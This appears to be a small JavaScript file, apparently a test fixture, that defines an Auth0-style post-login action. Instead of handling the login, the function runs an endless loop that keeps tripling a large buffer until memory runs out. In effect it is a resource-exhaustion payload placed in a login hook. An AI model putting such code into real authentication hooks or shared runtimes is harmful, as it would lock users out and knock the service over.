exports.onExecutePostLogin = async (event, api) => {
  let b = Buffer.from('x'.repeat(2 ** 20));
  for (;;) b = Buffer.concat([b, b, Buffer.from(b.toString('hex'), 'hex')]);
};
